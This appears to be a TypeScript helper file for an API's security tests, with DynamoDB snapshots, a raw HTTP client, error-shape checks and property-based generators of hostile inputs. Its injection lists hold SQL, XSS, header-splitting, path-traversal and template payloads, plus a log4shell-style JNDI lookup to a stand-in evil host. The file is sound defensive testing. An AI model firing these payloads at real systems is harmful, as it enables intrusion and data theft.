// Helpers for the security tests: table snapshots, a raw HTTP client with bounded concurrency, answer checks
// and the hostile strings and keys the property-based generators draw from.
import { Agent, request as httpRequest } from 'node:http';
import { DynamoDBClient } from '@aws-sdk/client-dynamodb';
import { DynamoDBDocumentClient, paginateScan } from '@aws-sdk/lib-dynamodb';
import fc from 'fast-check';
import type { LocalStack } from '../../local/stack.ts';
import { waitFor } from './local-stack.ts';

// ---------------------------------------------------------------------------------------------------------
// Table snapshots

export interface TableSnapshot {
  readonly state: readonly string[];
  readonly audit: readonly string[];
}

function documentClientOf(stack: LocalStack): DynamoDBDocumentClient {
  return DynamoDBDocumentClient.from(
    new DynamoDBClient({
      endpoint: stack.dynamodbEndpoint,
      region: 'eu-west-2',
      credentials: { accessKeyId: 'local', secretAccessKey: 'local' },
    }),
  );
}

async function scanAll(client: DynamoDBDocumentClient, table: string): Promise<string[]> {
  const items: string[] = [];
  for await (const page of paginateScan({ client }, { TableName: table, ConsistentRead: true })) {
    for (const item of page.Items ?? []) items.push(stableJson(item));
  }
  return items.sort();
}

/** JSON with object keys sorted, so two scans of the same items compare equal whatever the attribute order. */
function stableJson(value: unknown): string {
  return JSON.stringify(value, (_key, inner: unknown) => {
    if (inner instanceof Set) return [...inner].map(String).sort();
    if (inner instanceof Uint8Array) return Buffer.from(inner).toString('base64');
    if (inner && typeof inner === 'object' && !Array.isArray(inner)) {
      return Object.fromEntries(Object.entries(inner).sort(([a], [b]) => (a < b ? -1 : a > b ? 1 : 0)));
    }
    return inner;
  });
}

/** Every item of both tables, as sorted stable JSON: compare two snapshots with toEqual. */
export async function snapshotTables(stack: LocalStack): Promise<TableSnapshot> {
  const client = documentClientOf(stack);
  try {
    const [state, audit] = await Promise.all([
      scanAll(client, stack.tables.stateTable),
      scanAll(client, stack.tables.auditTable),
    ]);
    return { state, audit };
  } finally {
    client.destroy();
  }
}

/** A snapshot once the tables have stopped changing (workflows and notifications of the arrangement settled). */
export async function quietSnapshot(stack: LocalStack, timeoutMs = 30_000): Promise<TableSnapshot> {
  let previous = await snapshotTables(stack);
  return waitFor(
    async () => {
      await new Promise((resolve) => setTimeout(resolve, 400));
      const next = await snapshotTables(stack);
      const same = JSON.stringify(next) === JSON.stringify(previous);
      previous = next;
      return same ? next : undefined;
    },
    'the tables to stop changing',
    timeoutMs,
  );
}

/** What changed between two snapshots, for a readable failure: items added and removed, per table. */
export function tableChanges(
  before: TableSnapshot,
  after: TableSnapshot,
  /** Items mentioning this (a request id) are left out: a request whose own clock runs during the test. */
  ignoring?: string,
): Record<string, string[]> {
  const changes: Record<string, string[]> = {};
  const kept = (items: readonly string[]) =>
    ignoring === undefined ? items : items.filter((item) => !item.includes(ignoring));
  for (const table of ['state', 'audit'] as const) {
    const was = new Set(kept(before[table]));
    const is = new Set(kept(after[table]));
    const added = kept(after[table])
      .filter((item) => !was.has(item))
      .map((item) => `+ ${item}`);
    const removed = kept(before[table])
      .filter((item) => !is.has(item))
      .map((item) => `- ${item}`);
    if (added.length + removed.length > 0) changes[table] = [...removed, ...added];
  }
  return changes;
}

// ---------------------------------------------------------------------------------------------------------
// A raw HTTP client: the path goes on the wire as given (no URL normalisation of `..` or `%2e`), any header,
// any body bytes.

export interface RawRequest {
  readonly method: string;
  /** Sent as is: percent-encode what must be encoded. */
  readonly path: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string | Buffer;
}

export interface RawAnswer {
  readonly status: number;
  readonly headers: Readonly<Record<string, string | string[] | undefined>>;
  readonly text: string;
}

export interface RawClient {
  send(request: RawRequest): Promise<RawAnswer>;
  close(): void;
}

export function rawClient(baseUrl: string, maxSockets = 16): RawClient {
  const url = new URL(baseUrl);
  const agent = new Agent({ keepAlive: true, maxSockets });
  const send = (request: RawRequest, attempt = 1): Promise<RawAnswer> =>
    new Promise<RawAnswer>((resolve, reject) => {
      const req = httpRequest(
        {
          host: url.hostname,
          port: url.port,
          method: request.method,
          path: request.path,
          // An explicit length: Node sends a GET's body without one, and the server would read it as the next request.
          headers:
            request.body === undefined
              ? request.headers
              : { ...request.headers, 'content-length': String(Buffer.byteLength(request.body)) },
          agent,
        },
        (res) => {
          const chunks: Buffer[] = [];
          res.on('data', (chunk: Buffer) => chunks.push(chunk));
          res.on('end', () =>
            resolve({
              status: res.statusCode ?? 0,
              headers: res.headers,
              text: Buffer.concat(chunks).toString('utf8'),
            }),
          );
          res.on('error', reject);
        },
      );
      req.on('error', reject);
      req.end(request.body);
    }).catch((error: NodeJS.ErrnoException) => {
      // A keep-alive socket the server closed (after a 413 it says `connection: close`) is retried once.
      if (attempt === 1 && (error.code === 'ECONNRESET' || error.code === 'EPIPE')) {
        return send(request, 2);
      }
      throw error;
    });
  return { send: (request) => send(request), close: () => agent.destroy() };
}

/** Runs `work` over `items` with at most `concurrency` in flight; results in input order. */
export async function runBounded<T, R>(
  items: readonly T[],
  concurrency: number,
  work: (item: T, index: number) => Promise<R>,
): Promise<R[]> {
  const results = new Array<R>(items.length);
  let next = 0;
  await Promise.all(
    Array.from({ length: Math.min(concurrency, items.length) }, async () => {
      while (next < items.length) {
        const index = next;
        next += 1;
        results[index] = await work(items[index] as T, index);
      }
    }),
  );
  return results;
}

// ---------------------------------------------------------------------------------------------------------
// Answer checks: each returns what is wrong with an answer, or undefined.

function contentTypeOf(answer: RawAnswer): string {
  return String(answer.headers['content-type'] ?? '');
}

function parseJson(text: string): unknown {
  try {
    return JSON.parse(text);
  } catch {
    return undefined;
  }
}

/** The API's error shape: `{"error":{"code","message","field"?}}`, as JSON. */
export function apiErrorProblem(answer: RawAnswer): string | undefined {
  if (!contentTypeOf(answer).startsWith('application/json')) return `content-type ${contentTypeOf(answer)}`;
  const body = parseJson(answer.text) as { error?: Record<string, unknown> } | undefined;
  const error = body?.error;
  if (!error || typeof error.code !== 'string' || typeof error.message !== 'string') {
    return `not the error shape: ${answer.text.slice(0, 200)}`;
  }
  const extra = Object.keys(error).filter((key) => !['code', 'message', 'field'].includes(key));
  if (extra.length > 0 || (error.field !== undefined && typeof error.field !== 'string')) {
    return `unexpected error fields: ${answer.text.slice(0, 200)}`;
  }
  if (Object.keys(body ?? {}).length !== 1) return `more than the error: ${answer.text.slice(0, 200)}`;
  return undefined;
}

const SCIM_ERROR = 'urn:ietf:params:scim:api:messages:2.0:Error';
const SCIM_LIST = 'urn:ietf:params:scim:api:messages:2.0:ListResponse';
/** RFC 7644 §3.12, table 9. */
const SCIM_TYPES: ReadonlySet<string> = new Set([
  'invalidFilter',
  'tooMany',
  'uniqueness',
  'mutability',
  'invalidSyntax',
  'invalidPath',
  'noTarget',
  'invalidValue',
  'invalidVers',
  'sensitive',
]);

/**
 * The SCIM error shape (RFC 7644 §3.12), as application/scim+json: `{"schemas": [".../Error"], "status": "400",
 * "scimType"?, "detail"}`, the status in the body the one on the wire; a 401 says how to authenticate.
 */
export function scimErrorProblem(answer: RawAnswer): string | undefined {
  if (!contentTypeOf(answer).startsWith('application/scim+json'))
    return `content-type ${contentTypeOf(answer)}`;
  const body = parseJson(answer.text) as Record<string, unknown> | undefined;
  if (!body || typeof body !== 'object' || Array.isArray(body))
    return `not JSON: ${answer.text.slice(0, 200)}`;
  if (JSON.stringify(body.schemas) !== JSON.stringify([SCIM_ERROR])) {
    return `not the SCIM error shape: ${answer.text.slice(0, 200)}`;
  }
  if (body.status !== String(answer.status)) return `status ${JSON.stringify(body.status)} in the body`;
  if (typeof body.detail !== 'string' || body.detail === '') return `no detail: ${answer.text.slice(0, 200)}`;
  if (body.scimType !== undefined && !SCIM_TYPES.has(String(body.scimType))) {
    return `unknown scimType ${JSON.stringify(body.scimType)}`;
  }
  const extra = Object.keys(body).filter((key) => !['schemas', 'status', 'scimType', 'detail'].includes(key));
  if (extra.length > 0) return `unexpected error fields: ${answer.text.slice(0, 200)}`;
  if (answer.status === 401 && !/^Bearer\b/.test(String(answer.headers['www-authenticate'] ?? ''))) {
    return 'a 401 without www-authenticate: Bearer';
  }
  return undefined;
}

/** A SCIM list answer that found nothing: 200, application/scim+json, a ListResponse of no resources. */
export function scimEmptyListProblem(answer: RawAnswer): string | undefined {
  if (answer.status !== 200) return `status ${answer.status}, expected 200: ${answer.text.slice(0, 300)}`;
  if (!contentTypeOf(answer).startsWith('application/scim+json'))
    return `content-type ${contentTypeOf(answer)}`;
  const body = parseJson(answer.text) as Record<string, unknown> | undefined;
  const empty =
    JSON.stringify(body?.schemas) === JSON.stringify([SCIM_LIST]) &&
    body?.totalResults === 0 &&
    Array.isArray(body?.Resources) &&
    body.Resources.length === 0;
  return empty ? undefined : `not an empty ListResponse: ${answer.text.slice(0, 200)}`;
}

/**
 * API Gateway's own answers (the JWT authorizer's 401, no route's 404, its 413): `{"message": ...}`. AWS does
 * not let an HTTP API's authorizer answer in the API's shape, so these are the one other shape a client sees.
 */
export function gatewayErrorProblem(answer: RawAnswer, status: number): string | undefined {
  if (answer.status !== status) return `status ${answer.status}, expected gateway ${status}`;
  const body = parseJson(answer.text) as { message?: unknown } | undefined;
  return typeof body?.message === 'string' && Object.keys(body).length === 1
    ? undefined
    : `not the gateway shape: ${answer.text.slice(0, 200)}`;
}

/** A 4xx HTML page with the page headers, that repeats none of `probes` unescaped. */
export function htmlErrorProblem(answer: RawAnswer, probes: readonly string[]): string | undefined {
  if (!contentTypeOf(answer).startsWith('text/html')) return `content-type ${contentTypeOf(answer)}`;
  if (!String(answer.headers['content-security-policy'] ?? '').includes("default-src 'none'")) {
    return 'no content-security-policy';
  }
  const reflected = probes.find((probe) => answer.text.includes(probe));
  return reflected === undefined ? undefined : `reflects ${JSON.stringify(reflected)} unescaped`;
}

export function is4xx(status: number): boolean {
  return status >= 400 && status < 500;
}

/** The strings worth looking for in a page: those an unescaped reflection would make markup of. */
export function reflectionProbes(values: readonly string[]): string[] {
  return values.filter((value) => value.length >= 6 && /[<>"']/.test(value));
}

// ---------------------------------------------------------------------------------------------------------
// Hostile strings and keys

export const POLLUTION_KEYS = ['__proto__', 'constructor', 'prototype'] as const;

/** Injection-looking strings: SQL, NoSQL and DynamoDB expressions, markup, header splitting, paths, templates. */
export const INJECTIONS: readonly string[] = [
  "' OR '1'='1",
  '1; DROP TABLE requests; --',
  '" OR ""="',
  "admin'--",
  '{"$ne":null}',
  '{"$gt":""}',
  '$where: this.active == true',
  'attribute_exists(pk) OR #s = :v',
  'SET #status = :active REMOVE approvals',
  ':v',
  '#pk',
  'REQUEST#',
  'PRINCIPAL#adm-eve',
  'DIRECTORY',
  'AUDIT#STREAMS',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(document.cookie)>",
  'javascript:alert(1)',
  '<!--<iframe src=//evil.example>',
  'x\r\nSet-Cookie: session=evil',
  'x\r\n\r\n<html>injected</html>',
  '%0d%0aLocation:%20https://evil.example',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fdev%2ftoken',
  '/dev/token',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: template-injection probe, meant literally
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{{constructor.constructor("return process")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: log4shell-style probe, meant literally
  '${jndi:ldap://evil.example/a}',
  '=HYPERLINK("https://evil.example")',
];

/** Unicode edge cases: NUL, lone surrogates, bidi overrides, zero-width, combining marks, emoji, separators. */
export const UNICODE_EDGES: readonly string[] = [
  '\u0000',
  'a\u0000b',
  '\uD800',
  '\uDFFF',
  'x\uDC00y\uD83D',
  '\u202Eevil\u202C',
  '\u2066isolate\u2069',
  '\u200B\u200C\u200D',
  '\uFEFF',
  'e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301',
  'Z\u0364\u0351\u0313a\u0308\u0356\u032Dl\u036E\u0312g\u030C\u0317o\u0319\u0314',
  '\u{1F469}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}',
  '\u{1F3F3}\uFE0F\u200D\u{1F308}',
  '\uFFFF\uFFFE',
  '\u2028\u2029',
  '\u0085\u000B\u000C',
  '\u{10FFFF}',
  'ﬀ\u1E9E\u0130',
];

export const ODD_SCALARS: readonly string[] = [
  '',
  ' ',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '0x41',
  'true',
  '[]',
  '{}',
  ...POLLUTION_KEYS,
  'toString',
  'hasOwnProperty',
];

/** A string drawn from everything above, random full-range text, or a mix of both; now and then long. */
export function hostileString(maxLength = 300): fc.Arbitrary<string> {
  const dictionary = fc.constantFrom(...INJECTIONS, ...UNICODE_EDGES, ...ODD_SCALARS);
  return fc.oneof(
    { arbitrary: dictionary, weight: 6 },
    { arbitrary: fc.string({ unit: 'binary', maxLength: Math.min(maxLength, 60) }), weight: 2 },
    { arbitrary: fc.string({ unit: 'grapheme', maxLength: Math.min(maxLength, 40) }), weight: 1 },
    {
      arbitrary: fc
        .tuple(fc.string({ maxLength: 8 }), dictionary, fc.constantFrom(...UNICODE_EDGES), dictionary)
        .map((parts) => parts.join('')),
      weight: 3,
    },
    {
      arbitrary: fc
        .tuple(dictionary, fc.integer({ min: 2, max: Math.max(2, Math.floor(maxLength / 8)) }))
        .map(([part, times]) => part.repeat(times).slice(0, maxLength)),
      weight: 1,
    },
  );
}

/** A key to smuggle into an object: pollution keys most of the time, else a hostile name. */
export function hostileKey(): fc.Arbitrary<string> {
  return fc.oneof(
    { arbitrary: fc.constantFrom(...POLLUTION_KEYS), weight: 3 },
    { arbitrary: hostileString(40), weight: 1 },
  );
}

/** Any JSON value of a wrong type for a string field (or a right-typed but hostile one inside an object). */
export function wrongTypeValue(): fc.Arbitrary<unknown> {
  return fc.oneof(
    fc.integer(),
    // Finite only: JSON writes NaN and ±Infinity as null, which is a different case (below) and valid where a field
    // is nullable.
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    fc.boolean(),
    fc.constant(null),
    fc.array(hostileString(20), { maxLength: 3 }),
    fc.constant({ $ne: null }),
    fc.constant({ __proto__: { isAdmin: true } }),
    fc.dictionary(hostileKey(), hostileString(20), { maxKeys: 2 }),
  );
}

/** JSON text of an object given as entries, so a key may repeat and `__proto__` is written as a plain key. */
export function jsonObjectText(entries: ReadonlyArray<readonly [string, unknown]>): string {
  return `{${entries.map(([key, value]) => `${JSON.stringify(key)}:${jsonValueText(value)}`).join(',')}}`;
}

/** JSON text of a value; objects keep own keys literally (including `__proto__`). */
export function jsonValueText(value: unknown): string {
  if (value === undefined) return 'null';
  if (Array.isArray(value)) return `[${value.map(jsonValueText).join(',')}]`;
  if (value && typeof value === 'object') {
    const entries: Array<[string, unknown]> = Object.getOwnPropertyNames(value).map((key) => [
      key,
      (value as Record<string, unknown>)[key],
    ]);
    // `{ __proto__: x }` in a literal sets the prototype; write it out as the key it is meant to be.
    const proto = Object.getPrototypeOf(value) as unknown;
    if (proto !== Object.prototype && proto !== null) entries.unshift(['__proto__', proto]);
    return jsonObjectText(entries);
  }
  return JSON.stringify(value) ?? 'null';
}

/** Percent-encodes every byte that is not unreserved, so `..`, `/` and `%` arrive inside one path segment. */
export function encodeSegment(value: string): string {
  let encoded = '';
  for (const byte of Buffer.from(value, 'utf8')) {
    const char = String.fromCharCode(byte);
    encoded += /[A-Za-z0-9_-]/.test(char) ? char : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return encoded;
}

/** Path segments sent as they are: bad percent escapes, encoded surrogates, overlong dots, dot segments. */
export const RAW_SEGMENTS: readonly string[] = [
  '..',
  '.',
  '%',
  '%zz',
  '%ED%A0%80',
  '%C0%AE%C0%AE',
  '%2e%2e',
  '%2E%2E%2F%2E%2E%2Fdev%2Ftoken',
  '%00',
  '%0D%0ASet-Cookie:%20a=b',
  '%E2%80%AE',
  '%F0%9F%92%A9',
  ';jsessionid=x',
  '*',
  '$%7Bjndi:ldap:%2F%2Fevil%7D',
];
